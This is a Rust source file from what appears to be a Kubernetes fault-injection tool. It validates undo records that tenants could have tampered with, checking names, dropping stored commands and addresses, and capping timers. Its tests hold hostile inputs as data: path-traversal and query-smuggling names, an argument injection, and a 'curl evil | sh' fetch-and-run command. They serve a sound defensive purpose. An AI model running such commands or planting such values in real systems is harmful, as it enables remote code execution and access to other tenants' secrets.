//! What a record on a cluster may say at all: tenants can write `ConfigMaps`, and so a record is a stranger's text. Each part
//! of a name is one segment of a path, times have an end, commands are dropped. Whether an object is the run's is not
//! decided here: see [`super::mark`].

use serde_json::json;

use crate::evidence::{Replacement, Undo};
use crate::plan::TAINT_KEY;
use crate::scenario::{is_dns_label, is_dns_name, unaddressable};

/// No agent's timer is waited for longer, whatever a record says. Seconds.
const TIMER_MAX: u64 = 24 * 60 * 60;
/// What a record may name at most; a run of three hundred nodes has some thousands.
pub(super) const UNDO_MAX: usize = 20_000;

/// The undo as it may be looked at, of a record in the namespace `home`.
///
/// # Errors
/// What about it is no name.
pub(super) fn checked(undo: Undo, home: &str) -> Result<Undo, String> {
    match undo {
        Undo::DeleteNetworkPolicy { ref namespace, ref name } => {
            addressed("networking.k8s.io/v1", "NetworkPolicy", namespace, name).map(|()| undo)
        }
        Undo::DeleteObject { ref api_version, ref kind, ref namespace, ref name } => {
            addressed(api_version, kind, namespace, name).map(|()| undo)
        }
        Undo::Uncordon { ref node } => named(node).map(|()| undo),
        Undo::RemoveTaint { ref node, ref key, .. } => {
            named(node)?;
            if key == TAINT_KEY { Ok(undo) } else { Err(format!("the taint {} is none of ours", key.escape_debug())) }
        }
        // Neither a command nor an address is taken from a cluster: the Node says where it is.
        Undo::RestoreNode { node, mode, .. } => {
            named(&node)?;
            Ok(Undo::RestoreNode { node, ip: String::new(), mode, command: None })
        }
        Undo::EndNodeAgent { node, namespace, job, mode, timer_seconds } => {
            named(&node)?;
            addressed("batch/v1", "Job", &namespace, &job)?;
            let timer_seconds = timer_seconds.min(TIMER_MAX);
            Ok(Undo::EndNodeAgent { node, namespace, job, mode, timer_seconds })
        }
        Undo::RestoreMember(ref of) => member(of, home).map(|()| undo),
    }
}

fn addressed(api_version: &str, kind: &str, namespace: &str, name: &str) -> Result<(), String> {
    let object = json!({
        "apiVersion": api_version,
        "kind": kind,
        "metadata": { "name": name, "namespace": namespace },
    });
    unaddressable(&object).map_or(Ok(()), Err)
}

fn named(node: &str) -> Result<(), String> {
    if is_dns_name(node) { Ok(()) } else { Err(format!("{} is no name of a node", node.escape_debug())) }
}

/// Members are given back where the record lies and nowhere else: pods and claims are deleted on the way.
fn member(of: &Replacement, home: &str) -> Result<(), String> {
    if of.namespace != home {
        return Err(format!("it speaks of etcd in namespace {}, and lies in another", of.namespace.escape_debug()));
    }
    let claims = of.claims.iter().map(|claim| &claim.name).chain(&of.guest_claims);
    for name in [&of.stateful_set, &of.pod].into_iter().chain(&of.guest).chain(claims) {
        if !is_dns_name(name) {
            return Err(format!("{} is no name of a member", name.escape_debug()));
        }
    }
    let port = is_dns_label(&of.port);
    if port { Ok(()) } else { Err(format!("{} is no port", of.port.escape_debug())) }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::scenario::FailureMode;

    fn object(api_version: &str, kind: &str, namespace: &str, name: &str) -> Undo {
        Undo::DeleteObject {
            api_version: api_version.to_owned(),
            kind: kind.to_owned(),
            namespace: namespace.to_owned(),
            name: name.to_owned(),
        }
    }

    #[test]
    fn what_driftproof_itself_writes_is_sound() {
        for undo in [
            object("v1", "PersistentVolumeClaim", "shop", "data-db-0"),
            object("rbac.authorization.k8s.io/v1", "ClusterRole", "", "system:shop"),
            object("v1", "Namespace", "", "shop"),
            Undo::Uncordon { node: "ip-10-0-0-1.eu-west-1.compute.internal".to_owned() },
            Undo::RemoveTaint { node: "w1".to_owned(), key: TAINT_KEY.to_owned(), value: "r1.0-taint".to_owned() },
        ] {
            assert_eq!(checked(undo.clone(), "shop"), Ok(undo));
        }
    }

    #[test]
    fn no_part_of_a_name_leads_elsewhere() {
        for (undo, why) in [
            (object("/v1/nodes/worker-9?", "PersistentVolumeClaim", "a", "x"), "apiVersion"),
            (object("v1", "Secret/../nodes", "a", "x"), "kind"),
            (object("v1", "Secret", "a/../../nodes", "x"), "metadata.namespace"),
            (object("v1", "Secret", "a", "../../kube-system/secrets/x"), "metadata.name"),
            (object("v1", "Secret", "a", "x?dryRun=All"), "metadata.name"),
            (object("v1", "Secret", "a", "x%2f.."), "metadata.name"),
            (object("v1", "Secret", "a", ".."), "metadata.name"),
            (object("v1", "Secret", "a", ""), "metadata.name"),
            (Undo::Uncordon { node: "w1/status".to_owned() }, "no name of a node"),
            (Undo::Uncordon { node: "x --project other".to_owned() }, "no name of a node"),
            (Undo::DeleteNetworkPolicy { namespace: "a?".to_owned(), name: "x".to_owned() }, "metadata.namespace"),
            (
                Undo::RemoveTaint {
                    node: "w1".to_owned(),
                    key: "node.kubernetes.io/unreachable".to_owned(),
                    value: String::new(),
                },
                "none of ours",
            ),
        ] {
            let refusal = checked(undo.clone(), "a").expect_err(&format!("{undo:?}"));
            assert!(refusal.contains(why), "{undo:?}: {refusal}");
        }
    }

    #[test]
    fn no_command_no_address_and_no_year_is_taken_from_a_record() {
        let (mode, command) = (FailureMode::PowerOff, Some("curl evil | sh".to_owned()));
        let (node, ip) = ("w1".to_owned(), "203.0.113.9".to_owned());
        let restore = Undo::RestoreNode { node: node.clone(), ip, mode, command };
        let bare = Undo::RestoreNode { node: node.clone(), ip: String::new(), mode, command: None };
        assert_eq!(checked(restore, "a"), Ok(bare));
        let agent = |timer_seconds| Undo::EndNodeAgent {
            node: node.clone(),
            namespace: "kube-system".to_owned(),
            job: "driftproof-x".to_owned(),
            mode: FailureMode::NetworkCut,
            timer_seconds,
        };
        assert_eq!(checked(agent(u64::MAX), "a"), Ok(agent(TIMER_MAX)));
    }
}
